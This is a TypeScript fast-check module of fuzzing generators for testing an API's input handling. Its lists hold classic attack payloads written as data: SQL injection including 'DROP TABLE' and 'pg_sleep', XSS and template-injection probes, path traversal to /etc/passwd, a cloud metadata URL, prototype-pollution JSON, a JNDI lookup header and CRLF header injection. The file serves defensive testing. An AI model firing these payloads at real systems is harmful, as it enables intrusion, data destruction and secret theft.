import fc from 'fast-check';

/** Text that has broken parsers, validators, databases and renderers before. */
export const HOSTILE_TEXT = [
  '',
  ' ',
  '\t\n',
  "' OR '1'='1",
  "' OR 1=1 --",
  '"; DROP TABLE "user"; --',
  "1; SELECT pg_sleep(5)--",
  "') UNION SELECT NULL,NULL,NULL--",
  '%',
  '_',
  '%_%',
  '\\',
  '\\x00',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '{{7*7}}',
  '${7*7}',
  '#{7*7}',
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
  'https://127.0.0.1:5432/',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  '$where',
  '{"$ne":null}',
  'null',
  'undefined',
  'true',
  'NaN',
  '-NaN',
  'Infinity',
  '-Infinity',
  '-0',
  '0x1F',
  '1e309',
  '9'.repeat(400),
  '-1',
  '2026-02-30T25:61:61Z',
  '-100000-01-01T00:00:00Z',
  '+275760-09-13T00:00:00.001Z',
  '0000-00-00',
  '\u0000',
  'a\u0000b',
  '\u202e\u0301\u200b\u200f\u2066',
  '\ufeff',
  '\ud800',
  '\udfff',
  'x\ud83d',
  '\udc00y',
  '😀',
  '👩‍👩‍👧‍👦🇵🇹',
  'Z̴̡̢̛̗̘̙̜̝̞̟̠̀́̂̃̄̅̆̇̈̉̊̋̌̍̎̏̐̑̒̓̔̽̾̿̀́͂̓̈́͆͊͋͌͐͑͒͗͛ͣͤͥͦͧͨͩͪͫͬͭͮͯ͘͜͟͢͝͞͠͡',
  '\u0085\u2028\u2029',
  'ﬀ',
  'İı',
  'ß'.repeat(64),
  '\r\nX-Injected: 1',
];

/** A lone UTF-16 surrogate somewhere in otherwise ordinary text. */
const loneSurrogate = fc
  .tuple(fc.string({ maxLength: 5 }), fc.integer({ min: 0xd800, max: 0xdfff }), fc.string({ maxLength: 5 }))
  .map(([before, unit, after]) => `${before}${String.fromCharCode(unit)}${after}`);

/** Control characters, bidi overrides, zero-width and combining marks mixed with text. */
const trickyUnicode = fc.string({
  unit: fc.oneof(
    fc.constantFrom('\u0000', '\u0001', '\u001f', '\u007f', '\u202a', '\u202b', '\u202d', '\u202e', '\u200e', '\u200f', '\u2067', '\u200b', '\u200d', '\u0301', '\ufeff', '\ufffd', '\uffff'),
    fc.string({ unit: 'grapheme', minLength: 1, maxLength: 1 }),
  ),
  minLength: 1,
  maxLength: 20,
});

/** Long strings: at common limits, just over them, and far over them. */
export const hugeString = fc
  .tuple(fc.constantFrom(101, 201, 255, 256, 301, 1001, 2001, 5001, 20_001, 65_537, 100_001, 300_000), fc.constantFrom('x', 'é', '😀', '\u0301', ' ', '%'))
  .map(([length, unit]) => unit.repeat(Math.ceil(length / unit.length)).slice(0, length));

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constantFrom(...HOSTILE_TEXT), weight: 6 },
  { arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }), weight: 2 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 40 }), weight: 2 },
  { arbitrary: loneSurrogate, weight: 2 },
  { arbitrary: trickyUnicode, weight: 2 },
  { arbitrary: hugeString, weight: 1 },
);

/** Numbers at and beyond what JSON, JavaScript and PostgreSQL integers hold. */
export const hostileNumber = fc.oneof(
  fc.constantFrom(0, -0, -1, 1.5, 0.1, 2 ** 31, 2 ** 31 - 1, -(2 ** 31) - 1, 2 ** 53, 2 ** 63, Number.MAX_SAFE_INTEGER + 2, 1e21, 1e308, -1e308, 5e-324),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.integer(),
);

/** Any JSON value of the wrong kind: what a field that expects something else might receive. */
export const hostileValue: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    { arbitrary: fc.constant(null), weight: 2 },
    { arbitrary: fc.boolean(), weight: 1 },
    { arbitrary: hostileNumber, weight: 2 },
    { arbitrary: hostileString, weight: 5 },
    { arbitrary: fc.array(tie('value'), { maxLength: 4 }), weight: 1 },
    { arbitrary: fc.dictionary(fc.oneof(fc.constantFrom('$ne', '$gt', 'constructor', 'toString', 'id', 'a'), fc.string({ maxLength: 6 })), tie('value'), { maxKeys: 3 }), weight: 1 },
  ),
})).value;

/** JSON text nested far deeper than any DTO (as objects or arrays). */
export const deepNesting = fc.tuple(fc.constantFrom(33, 64, 500, 5_000, 50_000), fc.boolean(), fc.constantFrom('title', 'hours', 'emails', 'x')).map(([depth, arrays, key]) =>
  arrays ? `{"${key}":${'['.repeat(depth)}1${']'.repeat(depth)}}` : `{"${key}":${`{"${key}":`.repeat(depth)}1${'}'.repeat(depth)}}`,
);

/** Raw bodies that are not JSON, or barely. */
export const malformedJson = fc.constantFrom(
  '{',
  '{"a":',
  '{"a":1,}',
  "{'a':1}",
  '{"a":01}',
  '{"a":NaN}',
  '{"a":Infinity}',
  '{"a":1}{"b":2}',
  'null',
  '"text"',
  '42',
  'true',
  '[]',
  '\ufeff{}',
  '{"a":"\\ud800"}',
  '{"a":"\\u0000"}',
  '{"a":"\\uZZZZ"}',
  '{"__proto__":{"polluted":true}}',
  '{"constructor":{"prototype":{"polluted":true}}}',
  '{"a":1,"a":2}',
  `{"a":${'1'.repeat(5000)}}`,
  '{"a":1e999999}',
);

/** Percent-encodes any string, lone surrogates included (as their WTF-8 bytes), for a URL. */
export function encodeComponent(value: string): string {
  try {
    return encodeURIComponent(value);
  } catch {
    let encoded = '';
    for (const char of value) {
      const unit = char.charCodeAt(0);
      if (char.length === 1 && unit >= 0xd800 && unit <= 0xdfff) {
        encoded += [0xe0 | (unit >> 12), 0x80 | ((unit >> 6) & 0x3f), 0x80 | (unit & 0x3f)].map((byte) => `%${byte.toString(16).toUpperCase()}`).join('');
      } else {
        encoded += encodeURIComponent(char);
      }
    }
    return encoded;
  }
}

/** Raw, already-encoded URL text that is not valid percent-encoding or not UTF-8. */
export const rawUrlGarbage = fc.constantFrom('%', '%%', '%zz', '%E0%A4%A', '%FF%FE', '%C0%AF', '%ED%A0%80', '%00', '..%2F..%2F', '%252e', ';', ',', '%20', '+', 'a%0d%0aX-Injected:%201');

/** Header values a client could send: printable Latin-1 only (Node refuses the rest before sending). */
export const headerGarbage = fc.oneof(
  fc.constantFrom('', ' ', 'null', 'undefined', '*', '""', '"', "' OR 1=1 --", '<script>', '../../etc/passwd', '${jndi:ldap://x/a}', '\u00ff\u00fe', 'a'.repeat(4000), '9'.repeat(40)),
  fc.string({ unit: 'grapheme-ascii', maxLength: 60 }),
);
